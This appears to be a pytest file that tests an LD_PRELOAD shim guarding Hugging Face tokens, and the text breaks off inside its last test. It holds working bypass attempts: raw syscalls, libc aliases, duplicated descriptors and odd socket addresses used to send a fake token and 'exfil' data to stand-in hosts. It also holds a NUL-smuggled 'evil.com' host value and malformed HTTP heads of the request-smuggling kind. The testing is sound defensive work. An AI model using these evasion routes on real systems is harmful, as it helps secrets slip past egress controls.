"""test_fail_closed.py: ways around a rule, tried as an attacker would
(issue 17): odd socket addresses, libc's own aliases, duplicated fds.
Each attack runs inside a private network namespace whose loopback holds
the "remote" addresses (10.9.9.9, fd00::1); a listener without the shim
records what reached it. Under the offline rules and under a locked
offline policy (/etc overlaid, as tests/test_system.py does) nothing may
reach it and the log names the refusal; under the default rules the
request is judged (an HF token to a non-Hub host is stripped)."""

import json
import platform
import textwrap

import pytest

from acceptloop import AcceptLoop
from conftest import PY
from sysroot import SysRoot

TOKEN = "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"

# Runs in the namespace: sets the addresses up, starts the listener (no
# shim: LD_PRELOAD emptied for it), waits until it listens, runs the
# attacker with the shim, then prints what the listener got.
HARNESS = textwrap.dedent(r"""
    set -e
    ip link set lo up
    ip addr add 10.9.9.9/32 dev lo
    ip addr add fd00::1/128 dev lo nodad
    env -u LD_PRELOAD "$PY" -c "$LISTENER" "$OUT" &
    lpid=$!
    for i in $(seq 100); do [ -e "$OUT.ready" ] && break; sleep 0.05; done
    "$PY" -c "$ATTACK" "$@" || true
    sleep 0.3
    kill $lpid 2>/dev/null || true
    wait $lpid 2>/dev/null || true
    cat "$OUT"
""")

# Records every TCP byte and UDP datagram that arrives, one JSON line each.
LISTENER = textwrap.dedent(r"""
    import json, select, socket, sys, threading
    out = open(sys.argv[1], "a", buffering=1)
    def note(kind, data):
        out.write(json.dumps({"kind": kind, "data": data.decode("latin-1")}) + "\n")
    socks = []
    for fam, addr in ((socket.AF_INET, ("10.9.9.9", 8080)), (socket.AF_INET6, ("fd00::1", 8080))):
        s = socket.socket(fam); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(addr); s.listen()
        socks.append(("tcp", s))
    for fam, addr in ((socket.AF_INET, ("10.9.9.9", 5353)), (socket.AF_INET6, ("fd00::1", 5353))):
        s = socket.socket(fam, socket.SOCK_DGRAM); s.bind(addr); socks.append(("udp", s))
    open(sys.argv[1] + ".ready", "w").close()
    def serve(c):
        c.settimeout(2)
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                k = c.recv(65536)
                if not k: break
                data += k
        except OSError:
            pass
        note("tcp", data)
        try: c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        except OSError: pass
        c.close()
    while True:
        r, _, _ = select.select([s for _, s in socks], [], [])
        for kind, s in socks:
            if s in r:
                if kind == "tcp":
                    threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
                else:
                    note("udp", s.recv(65536))
""")

# The attacks: one per argument, each prints one JSON line of what the
# program saw.
ATTACK = textwrap.dedent(r"""
    import ctypes, errno, json, os, socket, struct, sys
    libc = ctypes.CDLL(None, use_errno=True)
    TOKEN = %r
    REQ = ("GET /x HTTP/1.1\r\nHost: foreign.example\r\nAuthorization: Bearer %%s\r\n"
           "Connection: close\r\n\r\n" %% TOKEN).encode()
    def sin(fam, ip, port):
        return struct.pack("<H", fam) + struct.pack("!H4s8x", port, socket.inet_aton(ip))
    def sin6(ip, port, length):
        return (struct.pack("<H", socket.AF_INET6) + struct.pack("!HI16sI", port, 0,
                socket.inet_pton(socket.AF_INET6, ip), 0))[:length]
    def call(fn, *args):
        ctypes.set_errno(0)
        rc = libc.syscall(42, *args) if fn == "syscall42" else getattr(libc, fn)(*args)
        return rc, errno.errorcode.get(ctypes.get_errno(), "0") if rc < 0 else "0"
    def tcp_request(fam, fn, sa):
        s = socket.socket(fam)
        rc, err = call(fn, s.fileno(), sa, len(sa))
        got = b""
        s.settimeout(3)
        if rc == 0:
            try:
                s.sendall(REQ)
                while True:
                    k = s.recv(4096)
                    if not k: break
                    got += k
            except OSError as e:
                got = repr(e).encode()
        return {"rc": rc, "errno": err, "reply": got.decode("latin-1")[:40]}
    def udp(fam, sockfam, sa, fn="sendto"):
        s = socket.socket(sockfam, socket.SOCK_DGRAM)
        if fn == "sendto":
            rc, err = call("sendto", s.fileno(), b"exfil", 5, 0, sa, len(sa))
        else:
            class iovec(ctypes.Structure):
                _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
            class msghdr(ctypes.Structure):
                _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
                            ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                            ("flags", ctypes.c_int)]
            iov = iovec(b"exfil", 5)
            m = msghdr(sa, len(sa), ctypes.pointer(iov), 1, None, 0, 0)
            rc, err = call("sendmsg", s.fileno(), ctypes.byref(m), 0)
        return {"rc": rc, "errno": err}
    def run(name):
        if name == "sin6-24":
            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 24))
        if name == "syscall-sin6-24":  # x86_64: SYS_connect is 42
            return tcp_request(socket.AF_INET6, "syscall42", sin6("fd00::1", 8080, 24))
        if name == "sin6-28":
            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 28))
        if name == "sin6-20":
            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 20))
        if name == "family-99":
            return tcp_request(socket.AF_INET, "connect", struct.pack("<H", 99) + sin(0, "10.9.9.9", 8080)[2:])
        if name == "udp-unspec":
            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_UNSPEC, "10.9.9.9", 5353))
        if name == "udp-unspec-msg":
            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_UNSPEC, "10.9.9.9", 5353), "sendmsg")
        if name == "udp-inet":
            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_INET, "10.9.9.9", 5353))
        if name == "udp6-sin6-24":
            return udp(socket.AF_INET6, socket.AF_INET6, sin6("fd00::1", 5353, 24))
        if name == "udp6-inet":
            return udp(socket.AF_INET6, socket.AF_INET6, sin(socket.AF_INET, "10.9.9.9", 5353))
        raise SystemExit("unknown attack " + name)
    for name in sys.argv[1:]:
        print(json.dumps({"attack": name, **run(name)}), flush=True)
""") % TOKEN

TCP6 = ["sin6-24", "sin6-28"] + (["syscall-sin6-24"] if platform.machine() == "x86_64" else [])
ATTACKS = TCP6 + ["sin6-20", "family-99", "udp-unspec", "udp-unspec-msg", "udp-inet", "udp6-sin6-24", "udp6-inet"]


def parse(stdout):
    seen, got = {}, []
    for line in stdout.splitlines():
        if not line.startswith("{"):
            continue
        o = json.loads(line)
        if "attack" in o:
            seen[o["attack"]] = o
        else:
            got.append(o)
    return seen, got


def harness_env(env, out):
    e = dict(env)
    e.update({"PY": PY, "LISTENER": LISTENER, "ATTACK": ATTACK, "OUT": str(out)})
    return e


def attack(shim, netns, env, names, root=None):
    """Runs the attacks in a fresh network namespace (and, with root, a
    mount namespace whose /etc is overlaid): what the program saw and what
    reached the listener."""
    out = shim.tmp / f"listener-{shim._n}.jsonl"
    argv = ["sh", "-c", HARNESS, "harness", *names]
    if root is not None:
        argv = root.cmd(argv)
        env = root.env(env)
    r = shim.run([*netns, *argv], env=harness_env(env, out), timeout=60)
    assert not r.timed_out, r
    seen, got = parse(r.stdout)
    assert sorted(seen) == sorted(names), r
    return r, seen, got


@pytest.fixture
def sysroot(tmp_path):
    why = SysRoot.check()
    if why:
        pytest.fail(why)
    return SysRoot(tmp_path)


def locked_offline(shim, sysroot, log):
    sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
    sysroot.write("/etc/hfshim/rules.json", json.dumps({"version": 1, "locked": True, "offline": True,
                                                        "log": {"destination": str(log)}}))
    return shim.base_env({"HFSHIM_LOG": ""})


def test_addresses_without_the_shim(shim, netns):
    """The baseline the attacks rely on: the kernel takes a 24-byte
    sockaddr_in6 and an AF_UNSPEC datagram address, refuses a short or
    foreign one."""
    r, seen, got = attack(shim, netns, shim.base_env(), ATTACKS)
    assert all(seen[n]["rc"] == 0 for n in TCP6), r
    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
    assert all(seen[n]["rc"] == 5 for n in ("udp-unspec", "udp-unspec-msg", "udp-inet", "udp6-sin6-24", "udp6-inet"))
    assert sum(1 for g in got if g["kind"] == "udp") == 5, got
    assert sum(1 for g in got if g["kind"] == "tcp" and TOKEN in g["data"]) == len(TCP6), got


@pytest.mark.parametrize("mode", ["offline", "locked"])
def test_odd_addresses_refused_offline(shim, netns, sysroot, mode):
    """Offline and under a locked offline policy: a 24-byte sockaddr_in6
    is IPv6 (refused like the 28-byte one), an AF_UNSPEC datagram goes to
    sin_addr (refused like AF_INET), addresses hfshim cannot read on an IP
    socket are refused with a log line. Nothing reaches the listener."""
    log = shim.tmp / "policy.log"
    if mode == "locked":
        r, seen, got = attack(shim, netns, locked_offline(shim, sysroot, log), ATTACKS, sysroot)
        text = log.read_text()
    else:
        env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "offline.json")})
        r, seen, got = attack(shim, netns, env, ATTACKS)
        text = r.log
    assert got == [], (got, r)
    for n in TCP6:
        assert seen[n]["errno"] == "ECONNREFUSED", r
    for n in ("udp-unspec", "udp-unspec-msg", "udp-inet", "udp6-sin6-24", "udp6-inet"):
        assert seen[n]["errno"] == "ENETUNREACH", (n, r)
    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
    assert text.count("blocked connect [fd00::1]:8080") == len(TCP6), text
    assert text.count("blocked datagram 10.9.9.9:5353") == 4 and "blocked datagram [fd00::1]:5353" in text, text
    assert "refused connect on fd" in text and "AF_INET6 address shorter than 24 bytes" in text, text
    assert "address family that is not IP on an IP socket" in text, text


def test_odd_addresses_judged_by_default_rules(shim, netns):
    """Default rules: the 24-byte sockaddr_in6 connection is watched like
    the 28-byte one (the HF token to this non-Hub host is stripped); the
    AF_UNSPEC datagram is judged as the AF_INET one (allowed)."""
    env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "default.json")})
    r, seen, got = attack(shim, netns, env, ATTACKS)
    assert all(seen[n]["rc"] == 0 for n in TCP6), r
    tcp = [g["data"] for g in got if g["kind"] == "tcp"]
    assert len(tcp) == len(TCP6) and all("GET /x" in d and TOKEN not in d for d in tcp), (tcp, r)
    assert r.log.count("stripped Authorization") == len(TCP6), r
    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
    assert sum(1 for g in got if g["kind"] == "udp") == 5, got


# -- every libc way to put a request on a watched or virtual socket --------

SEND = textwrap.dedent(r"""
    import ctypes, errno, json, os, socket, struct, sys
    libc = ctypes.CDLL(None, use_errno=True)
    TOKEN = %r
    REQ = ("GET /x HTTP/1.1\r\nHost: foreign.example\r\nAuthorization: Bearer %%s\r\n"
           "Connection: close\r\n\r\n" %% TOKEN).encode()
    SA = struct.pack("<H", socket.AF_INET) + struct.pack("!H4s8x", 8080, socket.inet_aton("10.9.9.9"))
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    class mmsghdr(ctypes.Structure):
        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
    def check(rc):
        if rc < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return rc
    def complete(got):
        head, sep, body = got.partition(b"\r\n\r\n")
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                return sep and len(body) >= int(line.split(b":")[1])
        return False
    def send_with(via, fd):
        b = REQ
        if via in ("connect", "__connect"):
            return check(libc.send(fd, b, len(b), 0)), fd
        if via in ("__send",):
            return check(libc.__send(fd, b, len(b), 0)), fd
        if via in ("__write", "__write_nocancel"):
            return check(getattr(libc, via)(fd, b, len(b))), fd
        if via == "fdopen":  # stdio over the socket
            libc.fdopen.restype = ctypes.c_void_p
            f = ctypes.c_void_p(libc.fdopen(fd, b"w"))
            if not f or libc.fileno(f) != fd:
                raise OSError(errno.EBADF, "fdopen")
            check(libc.fputs(b, f))
            check(libc.fflush(f))
            return len(b), fd
        if via == "syscall-write":  # x86_64 numbers
            return check(libc.syscall(1, fd, b, len(b))), fd
        if via == "syscall-sendto":
            return check(libc.syscall(44, fd, b, len(b), 0, None, 0)), fd
        if via == "syscall-dup":
            d = check(libc.syscall(32, fd))
            return check(libc.write(d, b, len(b))), fd
        if via == "dup":
            d = check(libc.dup(fd))
            return check(libc.write(d, b, len(b))), fd
        if via in ("fcntl-dupfd", "fcntl-dupfd-cloexec", "__fcntl-dupfd"):
            cmd = 1030 if via == "fcntl-dupfd-cloexec" else 0
            d = check(getattr(libc, "__fcntl" if via.startswith("__") else "fcntl")(fd, cmd, 0))
            return check(libc.send(d, b, len(b), 0)), fd
        if via == "dup-read":  # write on the original, read the answer through the copy
            d = check(libc.dup(fd))
            return check(libc.write(fd, b, len(b))), d
        if via == "splice":
            r, w = os.pipe()
            os.write(w, b)
            return check(libc.splice(r, None, fd, None, len(b), 0)), fd
        if via == "pwritev2":
            iov = iovec(b, len(b))
            return check(libc.pwritev2(fd, ctypes.byref(iov), 1, ctypes.c_long(-1), 0)), fd
        if via == "sendto-addr":
            return check(libc.sendto(fd, b, len(b), 0, SA, len(SA))), fd
        if via in ("sendmmsg", "__sendmmsg"):
            iov = iovec(b, len(b))
            v = mmsghdr(msghdr(None, 0, ctypes.pointer(iov), 1, None, 0, 0), 0)
            check(getattr(libc, via)(fd, ctypes.byref(v), 1, 0))
            return v.len, fd
        if via == "sendmsg-cmsg":  # SO_MARK ancillary data: TCP takes it and sends the bytes
            iov = iovec(b, len(b))
            cm = struct.pack("@QiiI4x", 20, socket.SOL_SOCKET, 36, 0)
            cbuf = ctypes.create_string_buffer(cm, len(cm))
            m = msghdr(None, 0, ctypes.pointer(iov), 1, ctypes.cast(cbuf, ctypes.c_void_p), len(cm), 0)
            return check(libc.sendmsg(fd, ctypes.byref(m), 0)), fd
        raise SystemExit("unknown way " + via)
    for via in sys.argv[1:]:
        s = socket.socket()
        ctypes.set_errno(0)
        rc = getattr(libc, "__connect" if via == "__connect" else "connect")(s.fileno(), SA, len(SA))
        res = {"via": via, "connect": rc, "errno": errno.errorcode.get(ctypes.get_errno(), "0") if rc else "0"}
        if rc == 0:
            try:
                res["sent"], rfd = send_with(via, s.fileno())
                got = b""
                r = socket.socket(fileno=os.dup(rfd)) if rfd != s.fileno() else s
                r.settimeout(3)
                while not complete(got):  # a virtual connection stays open after its answer
                    k = r.recv(4096)
                    if not k: break
                    got += k
                res["reply"] = got.decode("latin-1")[:40]
            except OSError as e:
                res["error"] = errno.errorcode.get(e.errno, str(e))
        print(json.dumps(res), flush=True)
""") % TOKEN

WAYS = ["connect", "__connect", "__send", "__write", "dup", "dup-read", "fcntl-dupfd", "fcntl-dupfd-cloexec",
        "__fcntl-dupfd", "splice", "pwritev2", "sendto-addr", "sendmmsg", "__sendmmsg", "sendmsg-cmsg", "fdopen",
        "__write_nocancel"] + (["syscall-write", "syscall-sendto", "syscall-dup"] if platform.machine() == "x86_64" else [])


def send_attack(shim, netns, env, root=None):
    out = shim.tmp / f"listener-{shim._n}.jsonl"
    argv = ["sh", "-c", HARNESS, "harness", *WAYS]
    if root is not None:
        argv, env = root.cmd(argv), root.env(env)
    env = dict(harness_env(env, out), ATTACK=SEND)
    r = shim.run([*netns, *argv], env=env, timeout=90)
    assert not r.timed_out, r
    seen, got = {}, []
    for line in r.stdout.splitlines():
        o = json.loads(line) if line.startswith("{") else None
        if o and "via" in o:
            seen[o["via"]] = o
        elif o:
            got.append(o)
    assert sorted(seen) == sorted(WAYS), r
    return r, seen, got


def test_send_ways_without_the_shim(shim, netns):
    """Every way delivers the request (token included) without the shim."""
    r, seen, got = send_attack(shim, netns, shim.base_env())
    assert all(seen[w].get("reply", "").startswith("HTTP/1.1 200") for w in WAYS), r
    assert sum(1 for g in got if TOKEN in g["data"]) == len(WAYS), got


def test_send_ways_judged_by_default_rules(shim, netns):
    """Default rules, a non-Hub host: whichever libc entry point writes the
    request (glibc's __ aliases, a dup or fcntl(F_DUPFD) copy, splice,
    pwritev2, sendto with an address, sendmmsg, sendmsg with ancillary
    data), the HF token is stripped before it leaves."""
    env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "default.json")})
    r, seen, got = send_attack(shim, netns, env)
    for w in WAYS:
        assert seen[w].get("reply", "").startswith("HTTP/1.1 200"), (w, seen[w], r)
    tcp = [g["data"] for g in got if g["kind"] == "tcp"]
    assert len(tcp) == len(WAYS) and not any(TOKEN in d for d in tcp), (tcp, r)
    assert r.log.count("stripped Authorization") == len(WAYS), r


@pytest.mark.parametrize("mode", ["offline", "locked"])
def test_send_ways_answered_offline(shim, netns, sysroot, mode):
    """Offline, the Hub at 10.9.9.9:8080 (virtual connections): whichever
    way the request is written, hfshim answers it (a cache miss: 403) and
    nothing reaches the listener; a request written through a duplicate
    is answered, never left unread."""
    log = shim.tmp / "policy.log"
    if mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({
            "version": 1, "locked": True, "offline": True, "hub_hosts": ["10.9.9.9:8080"],
            "log": {"destination": str(log)}}))
        r, seen, got = send_attack(shim, netns, shim.base_env({"HFSHIM_LOG": ""}), sysroot)
        text = log.read_text()
    else:
        env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "offline.json"),
                                "HF_ENDPOINT": "http://10.9.9.9:8080"})
        r, seen, got = send_attack(shim, netns, env)
        text = r.log
    assert got == [], (got, r)
    for w in WAYS:
        assert seen[w].get("reply", "").startswith("HTTP/1.1 403"), (w, seen[w], r)
    assert text.count("blocked GET http://foreign.example/x") == len(WAYS), text


# -- a regex the engine gives up on ----------------------------------------

PRIVATE = r"^/api/models/([^/]+/)*private$"
FETCH = r"""
import sys, urllib.request, urllib.error
for url in sys.argv[1:]:
    try:
        print(urllib.request.urlopen(url, timeout=5).status)
    except urllib.error.HTTPError as e:
        print(e.code)
    except Exception as e:
        print(type(e).__name__)
"""


@pytest.mark.parametrize("mode", ["default", "offline", "locked"])
def test_block_rule_holds_on_a_long_path(shim, fakehub, sysroot, mode):
    """A block rule whose regex overflows the JIT's stack on a 6 KB path
    (and a path longer than hfshim keeps) still blocks: the request never
    reaches the server, in a Python program under the default rules plus
    the rule, offline, and under a locked policy. `hfshim check` warns
    about the pattern."""
    rule = {"name": "private", "match": {"path": PRIVATE}, "action": "block"}
    deep = "/api/models/" + "a/" * 1700 + "private"        # 3.4 KB: over the JIT stack
    long_ = "/api/models/" + "a/" * 3000 + "private"       # 6 KB: longer than the path hfshim keeps
    urls = [fakehub.url + deep, fakehub.url + long_, fakehub.url + "/api/models/a/b/public"]
    log = shim.tmp / "policy.log"
    if mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({"version": 1, "locked": True, "offline": True,
                                                            "log": {"destination": str(log)}, "rules": [rule]}))
        r = shim.run(sysroot.cmd([PY, "-c", FETCH, *urls]), env=sysroot.env(shim.base_env({"HFSHIM_LOG": ""})))
        text = log.read_text()
    else:
        body = {"version": 1, "rules": [rule]}
        if mode == "default":
            body["include"] = [str(shim.rules_dir / "token-hygiene.json")]  # what default.json holds
        else:
            body["offline"] = True
        rules = shim.write_rules(body)
        check = shim.hfshim("check", rules)
        assert check.returncode == 0 and "can backtrack badly" in check.stderr, check
        r = shim.run([PY, "-c", FETCH, *urls], env=shim.preload_env({"HFSHIM_RULES": str(rules)}))
        text = r.log
    out = r.stdout.split()
    assert len(out) == 3 and out[0] == out[1] and out[0] in ("403", "URLError"), r
    assert out[2].isdigit(), r  # the short path goes through (the fake Hub answers it)
    assert fakehub.request_count() == 1, r
    assert text.count("(rule private") == 2, text


# -- a rules file the loader would have read cut short ---------------------

@pytest.mark.parametrize("text,where", [
    ('{"version": 1, "hub_hosts": ["evil.com\\u0000.huggingface.co"]}', ":1:39: \\u0000 inside a string"),
    ('{"version": 1, "env": {"set": {"A\\u0000B": "1"}}}', ":1:34: \\u0000 inside a string"),
    ('{"version": 1, "rules": [{"name": "a\\u0001b", "action": "allow"}]}', ":1:35: rules[0].name: control character"),
    (b'{"version": 1, "rules": [{"name": "a\xff", "action": "allow"}]}', ":1:37: invalid UTF-8 inside a string"),
])
def test_rules_strings_never_cut_short(shim, fakehub, text, where):
    """A NUL escape, a control character in a name or host, invalid UTF-8:
    `hfshim check` names file:line:col, and a program given the file gets
    the safe default (offline) instead of a shorter host: the token-
    carrying request to a Hub-looking name is not allowed out."""
    rules = shim.tmp / "cut.json"
    rules.write_bytes(text if isinstance(text, bytes) else text.encode())
    r = shim.hfshim("check", rules)
    assert r.returncode == 2 and f"{rules}{where}" in r.stderr, r
    r = shim.run([PY, "-c", FETCH, "http://huggingface.co/api/models/x"],
                 env=shim.preload_env({"HFSHIM_RULES": str(rules)}))
    assert r.stdout.split() != ["200"], r
    assert f"cannot use the rules: {rules}{where}" in r.log, r


# -- tokens in URLs never reach a log in clear ------------------------------

SECRET = "abcdefghijklmnopqrstuvwxyzSECRET0123"
LEAKY = r"""
import sys, urllib.request
for url in sys.argv[1:]:
    req = urllib.request.Request(url, headers={"Authorization": "Bearer hf_" + "x" * 34})
    try:
        print(urllib.request.urlopen(req, timeout=5).status)
    except Exception as e:
        print(getattr(e, "code", type(e).__name__))
"""


@pytest.mark.parametrize("mode", ["default", "offline", "locked"])
@pytest.mark.parametrize("fmt", ["text", "json"])
def test_url_tokens_masked_in_logs(shim, fakehub, sysroot, mode, fmt):
    """A percent-encoded HF token and an api_org_ token in a query string
    are masked in the text and JSON logs and in audit records, whichever
    rules log the request."""
    paths = [f"/api/models/x?t=hf%5F{SECRET}", f"/api/models/x?k=api_org_{SECRET}",
             f"/api/models/x?t=%68%66_{SECRET}"]
    log, audit = shim.tmp / "out.log", shim.tmp / "audit.jsonl"
    if mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({
            "version": 1, "locked": True, "offline": True, "hub_hosts": [f"127.0.0.1:{fakehub.port}"],
            "log": {"destination": str(log), "format": fmt, "audit": str(audit)}}))
        r = shim.run(sysroot.cmd([PY, "-c", LEAKY, *(fakehub.url + p for p in paths)]),
                     env=sysroot.env(shim.base_env({"HFSHIM_LOG": ""})))
    else:
        env = {"HFSHIM_LOG": str(log), "HFSHIM_LOG_FORMAT": fmt, "HFSHIM_AUDIT": str(audit)}
        if mode == "offline":
            env.update(HFSHIM_RULES=str(shim.rules_dir / "offline.json"), HF_ENDPOINT=fakehub.url)
        else:
            env.update(HFSHIM_RULES=str(shim.rules_dir / "default.json"))
        r = shim.run([PY, "-c", LEAKY, *(fakehub.url + p for p in paths)], env=shim.preload_env(env))
    text = log.read_text() + audit.read_text()
    assert text.count("/api/models/x?") >= 6, (text, r)  # each request is logged and audited
    assert SECRET not in text and "SECRET" not in text, text


# -- request heads the parser refuses --------------------------------------

MALFORMED = {
    "dup-host": b"Host: x\r\nHost: y\r\n",
    "del": b"X-A: a\x7fb\r\n",
    "nul": b"X-A: a\x00b\r\n",
    "ctl": b"X-A: a\x01b\r\n",
    "obs-fold": b"X-A: a\r\n b\r\n",
    "space-colon": b"X-A : v\r\n",
    "cl-conflict": b"Content-Length: 1\r\nContent-Length: 2\r\n",
    "te-not-chunked": b"Transfer-Encoding: chunked, gzip\r\n",
    "cl-and-te": b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n",
    "cl-sign": b"Content-Length: +0\r\n",
    "tab-name": b"X\tA: v\r\n",
    "empty-name": b": v\r\n",
    "no-colon": b"X-A v\r\n",
    "http10-te": None,
    "http20": None,
    "two-spaces": None,
    "lf-only": None,
}
HEAD_CLIENT = r"""
import json, socket, sys
port = int(sys.argv[1])
tok = b"Authorization: Bearer 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\r\n"
for raw in sys.argv[2:]:
    name, head = raw.split("=", 1)
    head = bytes.fromhex(head)
    s = socket.create_connection(("127.0.0.1", port))
    try:
        s.sendall(head)
        s.settimeout(2)
        got = s.recv(100)
        res = got[:12].decode("latin-1")
    except OSError as e:
        res = type(e).__name__
    print(json.dumps({"name": name, "result": res}), flush=True)
    s.close()
"""


def malformed_heads(path):
    tok = b"Authorization: Bearer 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\r\n"
    out = {}
    for name, extra in MALFORMED.items():
        line = b"GET %s HTTP/1.1\r\n" % path
        if name == "http10-te":
            line, extra = b"GET %s HTTP/1.0\r\n" % path, b"Transfer-Encoding: chunked\r\n"
        elif name == "http20":
            line, extra = b"GET %s HTTP/2.0\r\n" % path, b""
        elif name == "two-spaces":
            line, extra = b"GET  %s HTTP/1.1\r\n" % path, b""
        if name == "lf-only":
            out[name] = b"GET %s HTTP/1.1\nHost: x\n%s\n" % (path, tok.replace(b"\r\n", b"\n"))
        else:
            out[name] = line + b"Host: x\r\n" + extra + tok + b"\r\n"
    return out


class RawServer:
    """A TCP listener on 127.0.0.1 (in the test process, without the shim)
    that records what each connection sent and answers 200."""

    def __init__(self):
        import socket
        import threading
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.got = []
        self.lock = threading.Lock()
        self.loop = AcceptLoop(self.sock, self.accepted).start()

    def accepted(self, c, _peer):
        import threading
        threading.Thread(target=self.serve, args=(c,), daemon=True).start()

    def serve(self, c):
        c.settimeout(1)
        data = b""
        try:
            while b"\r\n\r\n" not in data and b"\n\n" not in data:
                k = c.recv(65536)
                if not k:
                    break
                data += k
            if data:
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        except OSError:
            pass
        with self.lock:
            if data:
                self.got.append(data)
        c.close()


@pytest.fixture
def raw_server():
    s = RawServer()
    yield s
    s.loop.stop()  # the loop's thread closes the listener (acceptloop.py says why)


@pytest.mark.parametrize("mode", ["default", "offline", "locked"])
def test_unreadable_heads_never_leave(shim, sysroot, raw_server, mode):
    """17 request heads the parser refuses (duplicate Host, control bytes,
    obs-fold, conflicting lengths, HTTP/2.0 as a version...) to a path a
    rule blocks, with an HF token for a non-Hub host: none reaches the
    server (the connection is refused, the log says why); a well-formed
    request to another path and another protocol's bytes still do."""
    heads = malformed_heads(b"/private")
    args = [f"{n}={h.hex()}" for n, h in heads.items()]
    args.append("good=" + (b"GET /public HTTP/1.1\r\nHost: x\r\n\r\n").hex())
    args.append("redis=" + b"PING x\r\n\r\n".hex())
    block = {"name": "private", "match": {"path": "^/private"}, "action": "block"}
    log = shim.tmp / "policy.log"
    argv = [PY, "-c", HEAD_CLIENT, str(raw_server.port), *args]
    if mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({"version": 1, "locked": True, "offline": False,
                                                            "log": {"destination": str(log)}, "rules": [block]}))
        r = shim.run(sysroot.cmd(argv), env=sysroot.env(shim.base_env({"HFSHIM_LOG": ""})))
        text = log.read_text()
    else:
        if mode == "offline":  # the server is the Hub: its connections are virtual
            env = {"HFSHIM_RULES": str(shim.rules_dir / "offline.json"),
                   "HF_ENDPOINT": f"http://127.0.0.1:{raw_server.port}"}
        else:
            rules = shim.write_rules({"version": 1, "include": [str(shim.rules_dir / "token-hygiene.json")],
                                      "rules": [block]})
            env = {"HFSHIM_RULES": str(rules)}
        r = shim.run(argv, env=shim.preload_env(env))
        text = r.log
    seen = {json.loads(line)["name"]: json.loads(line)["result"] for line in r.stdout.splitlines()}
    assert sorted(seen) == sorted([*heads, "good", "redis"]), r
    leaked = [g for g in raw_server.got if b"/private" in g]
    assert leaked == [], (leaked, r)
    assert all(not seen[n].startswith("HTTP/1.1 200") for n in heads), (seen, r)
    if mode != "offline":
        assert seen["good"].startswith("HTTP/1.1 200"), (seen, r)
        assert seen["redis"].startswith("HTTP/1.1 200") and any(g.startswith(b"PING") for g in raw_server.got), r
        refused = text.count("refused a request hfshim cannot read")
        assert refused + text.count("blocked GET") >= len(heads), text
        assert refused >= 10, text


PIECES_CLIENT = r"""
import json, select, socket, sys
port = int(sys.argv[1])
for raw in sys.argv[2:]:
    name, first, rest = raw.split("=")
    s = socket.create_connection(("127.0.0.1", port))
    try:
        s.sendall(bytes.fromhex(first))
        select.select([s], [], [], 0.3)  # waits for the peer mid-head
        s.sendall(bytes.fromhex(rest))
        s.settimeout(2)
        res = s.recv(100)[:12].decode("latin-1")
    except OSError as e:
        res = type(e).__name__
    print(json.dumps({"name": name, "result": res}), flush=True)
    s.close()
"""


@pytest.mark.parametrize("mode", ["none", "default", "locked"])
def test_head_written_in_pieces_is_judged(shim, sysroot, raw_server, mode):
    """A client that waits for the peer in the middle of its request head
    gets the held part released (do no harm), but only once what can be
    read of it (the start line, the complete header lines) is judged: a
    block rule on the path or an HF token for a non-Hub host in a header
    line before the wait refuses the connection, nothing of it sent; a
    request no rule acts on goes through."""
    tok = b"Authorization: Bearer " + TOKEN.encode() + b"\r\n"
    pieces = {
        "blocked-path": (b"GET /private HTTP/1.1\r\n", b"Host: x\r\n\r\n"),
        "blocked-line": (b"GET /private", b" HTTP/1.1\r\nHost: x\r\n\r\n"),
        "token": (b"GET /public HTTP/1.1\r\nHost: x\r\n" + tok, b"\r\n"),
        "plain": (b"GET /public HTTP/1.1\r\n", b"Host: x\r\n\r\n"),
    }
    args = [f"{n}={a.hex()}={b.hex()}" for n, (a, b) in pieces.items()]
    block = {"name": "private", "match": {"path": "^/private"}, "action": "block"}
